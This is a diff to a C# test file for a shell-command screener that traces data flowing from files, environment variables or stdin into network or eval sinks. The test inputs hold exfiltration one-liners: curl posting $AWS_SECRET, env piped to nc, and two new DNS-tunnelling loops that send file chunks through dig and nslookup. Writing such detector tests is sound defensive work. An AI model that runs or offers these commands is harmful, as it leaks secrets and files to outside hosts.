@@ -102,6 +102,8 @@ public sealed class FlowTests(ParserContainer parser)
     [InlineData("curl -d \"t=$AWS_SECRET\" http://192.0.2.1/", "environment $AWS_SECRET > network curl 1")]
     [InlineData("env | nc 192.0.2.1 99", "environment env > network nc input")]
     [InlineData("cat a | base64 | curl -d @- http://192.0.2.1", "file cat > network curl input")]
+    [InlineData("for b in $(xxd -p a | fold -w 60); do dig $b.example.org; done", "file xxd > network dig 0")]
+    [InlineData("base64 a | while read -r b; do nslookup $b.example.org; done", "file base64 > network nslookup 0")]
     [InlineData("read -r c; eval $c", "stdin read > shell eval 0")]
     public async Task Shell_is_followed(string code, string flow) =>
         Assert.Contains(flow, Flows(await Screening.Screener(parser).ShellAsync(code)));
